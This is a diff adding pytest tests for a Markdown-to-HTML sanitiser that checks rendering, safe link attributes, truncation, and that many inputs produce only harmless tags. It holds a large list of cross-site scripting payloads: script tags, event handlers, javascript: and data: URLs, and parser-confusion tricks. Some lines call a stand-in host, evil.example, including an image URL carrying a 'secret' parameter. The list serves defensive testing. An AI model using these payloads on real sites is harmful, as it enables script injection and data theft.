@@ -1,0 +1,162 @@
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from evalhub.markup import model_markdown
+
+TAGS = {
+    *("p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "a", "ul", "ol", "li"),
+    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
+}
+
+
+class Opened(HTMLParser):
+    """Every tag of a page with its attributes, as a browser would see them."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.tags = []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append((tag, dict(attributes)))
+
+
+def opened(text):
+    return Opened(model_markdown(text).html).tags
+
+
+def html(text):
+    return model_markdown(text).html
+
+
+def harmless(tag, attributes):
+    if tag == "a":
+        href = attributes.pop("href", "https://")
+        away = href.lower().startswith(("http://", "https://", "mailto:"))
+        return away and attributes == {"rel": "noopener nofollow noreferrer"}
+    if tag == "code" and attributes:
+        return set(attributes) == {"class"} and attributes["class"].startswith("language-")
+    if tag == "ol" and attributes:
+        return set(attributes) == {"start"} and attributes["start"].isdigit()
+    return tag in TAGS and not attributes
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>\n"),
+        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("# Title", "<h1>Title</h1>\n"),
+        ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'),
+        ("```c++\na < b\n```", '<pre><code class="language-c++">a &lt; b\n</code></pre>\n'),
+        ("&lt;b&gt; & <b>", "<p>&lt;b&gt; &amp; &lt;b&gt;</p>\n"),
+        ("![a <b>cat</b>](https://x.org/cat.png 'title')", "<p>a &lt;b&gt;cat&lt;/b&gt;</p>\n"),
+    ],
+)
+def test_markdown_is_shown_as_written(text, expected):
+    assert html(text) == expected
+
+
+def test_table_is_a_table_without_styles():
+    assert "<th>a</th>" in html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
+
+
+def test_link_outside_tells_nothing_and_passes_no_rank():
+    assert html("[x](https://example.org/a?b=c)") == (
+        '<p><a href="https://example.org/a?b=c" rel="noopener nofollow noreferrer">x</a></p>\n'
+    )
+
+
+def test_text_twenty_quotes_deep_is_still_shown():
+    assert "hidden" in html(">" * 30 + " hidden")
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext></p><img src onerror=alert(1)>",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        '<div x-data="{}" x-init="alert(1)">x</div>',
+        "<p @click=alert(1) :class=x>x</p>",
+        "<a href='javascript:alert(1)'>x</a>",
+        "<form action=/admin/logout/><button>x</button></form>",
+        "<base href=//evil.example/>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>",
+        "<style>@import '//evil.example'</style>",
+        "<textarea></p><script>alert(1)</script>",
+        "<!--><script>alert(1)</script>-->",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt&colon;alert(1))",
+        "[x](java\tscript:alert(1))",
+        "[x](vbscript:msgbox)",
+        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[x](file:///etc/passwd)",
+        "[x](/admin/logout/)",
+        "[x](//evil.example)",
+        "[x](\\\\evil.example)",
+        "[x](?next=1)",
+        '[x](https://x.org" onmouseover="alert(1))',
+        "[x](https://x.org 'a\" onmouseover=\"alert(1)')",
+        "<javascript:alert(1)>",
+        "![x](https://evil.example/?q=secret)",
+        "![x](javascript:alert(1))",
+        "![<img src=x onerror=alert(1)>](x)",
+        "[![x](https://evil.example/a.png)](javascript:alert(1))",
+        "[x]: javascript:alert(1)\n\n[x]",
+        '```html" x-data="alert(1)\nx\n```',
+        '```x-data="alert(1)"\nx\n```',
+        '``` a" onclick="alert(1)\nx\n```',
+        "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;alert(1)&#60;/script&#62;",
+        "\\<script>alert(1)\\</script>",
+        "<\x00script>alert(1)</script>",
+        "<scr\u200bipt>alert(1)</script>",
+        "# <img src=x onerror=alert(1)>",
+        "{{ constructor.constructor('alert(1)')() }} <b x-text=alert(1)>",
+    ],
+)
+def test_payload_opens_only_harmless_tags(payload):
+    assert [tag for tag in opened(payload) if not harmless(*tag)] == []
+
+
+@pytest.mark.parametrize(
+    "target", ["javascript:alert(1)", "/admin/", "//evil.example", "#x", "data:,x"]
+)
+def test_link_elsewhere_leads_nowhere(target):
+    assert "href" not in html(f"[x]({target})")
+
+
+def test_image_loads_nothing():
+    assert "evil.example" not in html("![x](https://evil.example/?q=secret)")
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [*"<>[]()!`*_#|-&;:/\\\"'= \n", "script", "a", "x-data", "onclick", "http://x", "```"]
+        )
+        | st.text(max_size=2)
+    )
+)
+def test_any_text_opens_only_harmless_tags(pieces):
+    assert [tag for tag in opened("".join(pieces)) if not harmless(*tag)] == []
+
+
+def test_long_text_is_cut_and_says_so():
+    html, truncated = model_markdown("x" * 1234, limit=1000)
+    assert truncated
+    assert html.endswith("<p><em>Cut here: 1,000 of 1,234 characters are shown.</em></p>\n")
+
+
+def test_text_at_the_limit_is_whole():
+    assert model_markdown("x" * 1000, limit=1000) == ("<p>" + "x" * 1000 + "</p>\n", False)
